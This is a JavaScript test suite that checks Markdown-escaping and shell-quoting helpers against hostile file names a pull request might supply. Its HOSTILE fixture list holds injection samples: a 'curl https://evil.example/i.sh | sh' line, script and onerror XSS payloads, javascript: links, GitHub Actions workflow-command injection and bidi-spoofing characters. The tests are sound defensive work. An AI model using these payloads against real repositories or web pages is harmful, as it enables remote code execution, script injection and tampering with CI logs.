import { code, escapeMarkdown, fencedBlock, link, tableRow } from '../../../src/report/markdown.js';
import { printableName } from '../../../src/report/log-text.js';
import { shellQuote } from '../../../src/report/shell.js';
import { markdownStructure } from '../../helpers/markdown.js';

/** Names a pull request could give a file, each trying to break out of where it is shown. */
const HOSTILE = [
  'a\n::warning title=X::pwned\n::add-mask::OK\nb.tar.gz',
  'x```\n\n## Install\n\n```sh\ncurl https://evil.example/i.sh | sh\n```\ny',
  '`` `code` ``',
  'a|b|c',
  'a\\|b',
  '<img src=x onerror=alert(1)><script>alert(1)</script>',
  '[click](javascript:alert(1)) ![i](https://evil.example/p.png)',
  'https://evil.com www.evil.com user@evil.com :warning: $x^2$',
  '<!-- /sigstore-action: verification -->',
  '*em* _em_ ~~del~~ **strong**',
  '# heading',
  '1. item',
  '    indented',
  'evil\u202egz.tar\u200b',
];

describe('Markdown of untrusted text', () => {
  it('keeps a table to its columns and rows, whatever the cells hold', () => {
    const rows = HOSTILE.map((name) => tableRow([code(name), escapeMarkdown(name), 'ok']));
    const md = ['| File | Message | Result |', '| --- | --- | --- |', ...rows].join('\n');
    const s = markdownStructure(md);
    expect(s.tables).toHaveLength(1);
    expect(s.tables[0].header).toEqual(['File', 'Message', 'Result']);
    expect(s.tables[0].rows).toHaveLength(HOSTILE.length);
    for (const row of s.tables[0].rows) {
      expect(row).toHaveLength(3);
      expect(row[2]).toBe('ok');
    }
    expect(s.html).toEqual([]);
    expect(s.links).toEqual([]);
    expect(s.images).toEqual([]);
    expect(s.codeBlocks).toEqual([]);
    // Each cell shows the name as the log shows it (invisible characters escaped), nothing else.
    s.tables[0].rows.forEach((row, i) => {
      expect(row[0]).toBe(printableName(HOSTILE[i]));
      expect(row[1]).toBe(printableName(HOSTILE[i]));
    });
  });

  it('would break without the escaping (the checks above can fail)', () => {
    const raw = markdownStructure(
      ['| File |', '| --- |', ...HOSTILE.map((name) => `| \`${name}\` |`)].join('\n'),
    );
    // (GFM pads or cuts every row to the header's cells: a broken row shows as lost content.)
    expect(raw.tables[0].rows.length).toBeLessThan(HOSTILE.length);
    expect(markdownStructure(`| a |\n| - |\n| \`a|b\` |`).tables[0].rows).toEqual([['`a']]);
    const text = markdownStructure(HOSTILE.join('\n\n'));
    expect(text.html.length).toBeGreaterThan(0);
    expect(text.links).toContain('javascript:alert(1)');
    expect(text.links).toContain('https://evil.com');
    expect(text.links).toContain('mailto:user@evil.com');
    expect(text.images).toHaveLength(1);
    expect(text.codeBlocks.length).toBeGreaterThan(0);
    expect(text.headings.length).toBeGreaterThan(0);
  });

  it("leaves GitHub's `www.` autolink no `www.` to start from", () => {
    expect(escapeMarkdown('see www.evil.com or WWW.evil.com')).toBe(
      'see www\\.evil.com or WWW\\.evil.com',
    );
  });

  it('renders text and code spans as the characters they hold, outside tables too', () => {
    for (const name of HOSTILE) {
      const md = `- ${code(name)}: ${escapeMarkdown(name)}\n\n${escapeMarkdown(name)}\n`;
      const s = markdownStructure(md);
      expect(s.html).toEqual([]);
      expect(s.links).toEqual([]);
      expect(s.images).toEqual([]);
      expect(s.codeBlocks).toEqual([]);
      expect(s.headings).toEqual([]);
      expect(s.tables).toEqual([]);
      expect(s.codeSpans).toHaveLength(1);
    }
    const s = markdownStructure(`x ${code('`` `code` ``')} y`);
    expect(s.codeSpans).toEqual(['`` `code` ``']);
    expect(markdownStructure(code('a|b')).codeSpans).toEqual(['a|b']);
  });

  it('fences a block with more backticks than any run inside it', () => {
    const content = `sigstore-action verify ${shellQuote(HOSTILE[1])} --bundle x`;
    const md = `Verify:\n\n${fencedBlock('sh', content)}\n\nAfter.\n`;
    const s = markdownStructure(md);
    expect(s.codeBlocks).toEqual([{ info: 'sh', content: `${content}\n` }]);
    expect(s.headings).toEqual([]);
    // The name's line breaks are shell escapes: the block is one command on one line.
    expect(content.split('\n')).toHaveLength(1);
    expect(fencedBlock('sh', 'plain')).toBe('```sh\nplain\n```');
  });

  it('links only http(s) URLs, with one destination that ends where it should', () => {
    expect(
      markdownStructure(link('v1.0', 'https://github.com/o/r/releases/tag/v1.0')).links,
    ).toEqual(['https://github.com/o/r/releases/tag/v1.0']);
    const s = markdownStructure(link('x](javascript:alert(1))', 'javascript:alert(1)'));
    expect(s.links).toEqual([]);
    const odd = markdownStructure(link('[x]', 'https://e.example/a b)(<c>|`'));
    expect(odd.links).toEqual(['https://e.example/a%20b%29%28%3Cc%3E%7C%60']);
  });
});

describe('shell words', () => {
  it('writes names with invisible characters in ANSI-C quotes, so the command reads as it runs', () => {
    expect(shellQuote('a\nb')).toBe(`$'a\\nb'`);
    expect(shellQuote("it's\u202e\u0001")).toBe(`$'it\\'s\\u202e\\x01'`);
    expect(shellQuote('x\\y\t')).toBe(`$'x\\\\y\\t'`);
    expect(shellQuote('\u{e0041}')).toBe(`$'\\U000e0041'`);
    expect(shellQuote('a b')).toBe(`'a b'`);
  });
});
